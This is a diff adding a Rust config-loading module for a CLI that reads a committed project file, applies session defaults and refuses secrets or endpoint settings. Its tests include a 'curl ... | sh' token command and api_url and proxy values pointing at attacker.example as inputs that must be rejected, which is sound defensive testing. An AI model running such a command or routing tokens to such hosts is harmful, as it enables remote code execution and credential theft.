@@ -0,0 +1,201 @@
+use crate::api::models::CreateSessionRequest;
+use crate::config::redaction::RedactionSettings;
+use crate::config::schema::find_key;
+use crate::config::Profile;
+use anyhow::{anyhow, Context, Result};
+use serde::{Deserialize, Serialize};
+use std::env;
+use std::fs;
+use std::path::{Path, PathBuf};
+use toml::Value;
+
+/// Name of the project config file, looked up from the current directory upwards
+pub const PROJECT_FILE_NAME: &str = ".devin.toml";
+
+/// Defaults for the sessions created in a project
+#[derive(Debug, Default, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct SessionDefaults {
+    /// Text put before the prompt that starts a session, such as repo conventions
+    pub prompt_prefix: Option<String>,
+    /// Tags added to every session
+    pub tags: Vec<String>,
+    /// Playbook the sessions follow
+    pub playbook_id: Option<String>,
+    /// Machine snapshot the sessions start from
+    pub snapshot_id: Option<String>,
+}
+
+impl SessionDefaults {
+    /// Request creating a session that starts with `prompt`
+    pub fn request(&self, prompt: &str) -> CreateSessionRequest {
+        let prompt = match self.prompt_prefix.as_deref().map(str::trim) {
+            Some(prefix) if !prefix.is_empty() => format!("{}\n\n{}", prefix, prompt),
+            _ => prompt.to_string(),
+        };
+        CreateSessionRequest {
+            prompt,
+            snapshot_id: self.snapshot_id.clone(),
+            playbook_id: self.playbook_id.clone(),
+            tags: self.tags.clone(),
+            ..CreateSessionRequest::default()
+        }
+    }
+}
+
+/// Settings from a `.devin.toml`
+#[derive(Debug, Clone, PartialEq)]
+pub struct ProjectConfig {
+    pub path: PathBuf,
+    /// Timeouts, layered over the profile in use
+    pub settings: Profile,
+    pub session: SessionDefaults,
+    /// Redaction settings added to the user's
+    pub redaction: RedactionSettings,
+}
+
+/// Find the closest `.devin.toml` in `start` or one of its parents
+pub fn find_project_file(start: &Path) -> Option<PathBuf> {
+    start.ancestors()
+        .map(|dir| dir.join(PROJECT_FILE_NAME))
+        .find(|path| path.is_file())
+}
+
+/// The project config of the current directory, if there is one
+pub fn load_project_config() -> Result<Option<ProjectConfig>> {
+    let Ok(current_dir) = env::current_dir() else {
+        return Ok(None);
+    };
+    find_project_file(&current_dir)
+        .map(|path| load_project_file(&path))
+        .transpose()
+}
+
+/// Session defaults of the current project, empty outside of one
+pub fn get_session_defaults() -> Result<SessionDefaults> {
+    Ok(load_project_config()?.map(|project| project.session).unwrap_or_default())
+}
+
+/// Read and check a project config file
+///
+/// Project files are meant to be committed, so tokens, token commands and the
+/// settings deciding where the token is sent are refused rather than ignored.
+pub fn load_project_file(path: &Path) -> Result<ProjectConfig> {
+    let contents = fs::read_to_string(path)
+        .with_context(|| format!("Failed to read {}", path.display()))?;
+    let document: Value = toml::from_str(&contents)
+        .with_context(|| format!("{} is not valid TOML", path.display()))?;
+    let Value::Table(mut table) = document else {
+        return Err(anyhow!("{} is not valid TOML", path.display()));
+    };
+    
+    let session = match table.remove("session") {
+        Some(session) => session.try_into()
+            .with_context(|| format!("Invalid [session] table in {}", path.display()))?,
+        None => SessionDefaults::default(),
+    };
+    let redaction: RedactionSettings = match table.remove("redaction") {
+        Some(redaction) => redaction.try_into()
+            .with_context(|| format!("Invalid [redaction] table in {}", path.display()))?,
+        None => RedactionSettings::default(),
+    };
+    redaction.validate().with_context(|| format!("Invalid [redaction] table in {}", path.display()))?;
+    
+    for (name, value) in &table {
+        let key = find_key(name).with_context(|| format!("Invalid setting in {}", path.display()))?;
+        if !key.project {
+            let hint = if key.managed || key.name == "token_command" {
+                "Run 'devin configure' to store the token in your user config instead.".to_string()
+            } else {
+                format!(
+                    "A checkout could use it to send your token elsewhere; run 'devin config set {}' instead.",
+                    key.name
+                )
+            };
+            return Err(anyhow!(
+                "{} must not be set in {}: project files are usually committed. {}",
+                key.name, path.display(), hint
+            ));
+        }
+        key.validate(value).with_context(|| format!("Invalid setting in {}", path.display()))?;
+    }
+    let settings = Value::Table(table).try_into()
+        .with_context(|| format!("Invalid settings in {}", path.display()))?;
+    
+    Ok(ProjectConfig {
+        path: path.to_path_buf(),
+        settings,
+        session,
+        redaction,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+    
+    #[test]
+    fn test_find_project_file_walks_up() {
+        let temp_dir = tempdir().unwrap();
+        let nested = temp_dir.path().join("crates").join("cli").join("src");
+        fs::create_dir_all(&nested).unwrap();
+        assert_eq!(find_project_file(&nested), None);
+        
+        fs::write(temp_dir.path().join(PROJECT_FILE_NAME), "").unwrap();
+        assert_eq!(find_project_file(&nested), Some(temp_dir.path().join(PROJECT_FILE_NAME)));
+        
+        // The closest file wins
+        fs::write(nested.join(PROJECT_FILE_NAME), "").unwrap();
+        assert_eq!(find_project_file(&nested), Some(nested.join(PROJECT_FILE_NAME)));
+    }
+    
+    #[test]
+    fn test_load_project_file() {
+        let temp_dir = tempdir().unwrap();
+        let path = temp_dir.path().join(PROJECT_FILE_NAME);
+        fs::write(&path, r#"
+timeout = 120
+connect_timeout = 5
+
+[session]
+prompt_prefix = "Run `make check` before opening a PR."
+tags = ["repo:cli"]
+playbook_id = "playbook-123"
+"#).unwrap();
+
+        let project = load_project_file(&path).unwrap();
+        assert_eq!(project.settings.timeout, Some(120));
+        assert_eq!(project.settings.connect_timeout, Some(5));
+        assert_eq!(project.session.tags, vec!["repo:cli"]);
+        
+        let request = project.session.request("Fix the flaky test");
+        assert_eq!(request.prompt, "Run `make check` before opening a PR.\n\nFix the flaky test");
+        assert_eq!(request.playbook_id.as_deref(), Some("playbook-123"));
+        assert_eq!(request.snapshot_id, None);
+        assert_eq!(SessionDefaults::default().request("Fix it").prompt, "Fix it");
+    }
+    
+    #[test]
+    fn test_refuses_secrets_and_unknown_settings() {
+        let temp_dir = tempdir().unwrap();
+        let path = temp_dir.path().join(PROJECT_FILE_NAME);
+        
+        for (contents, expected) in [
+            ("api_token = \"apk_secret\"\n", "must not be set"),
+            ("token_command = \"curl https://example.com | sh\"\n", "must not be set"),
+            ("api_url = \"https://devin.attacker.example\"\n", "api_url must not be set"),
+            ("proxy = \"http://attacker.example:3128\"\n", "proxy must not be set"),
+            ("ca_cert = \"certs/ca.pem\"\n", "ca_cert must not be set"),
+            ("max_attempts = 10\n", "max_attempts must not be set"),
+            ("colour = \"red\"\n", "Unknown config key"),
+            ("timeout = \"soon\"\n", "timeout"),
+            ("[session]\nprompt = \"Fix\"\n", "[session]"),
+            ("[redaction]\npatterns = [\"([a-z\"]\n", "redaction pattern"),
+        ] {
+            fs::write(&path, contents).unwrap();
+            let error = format!("{:#}", load_project_file(&path).unwrap_err());
+            assert!(error.contains(expected), "{}: {}", contents, error);
+        }
+    }
+}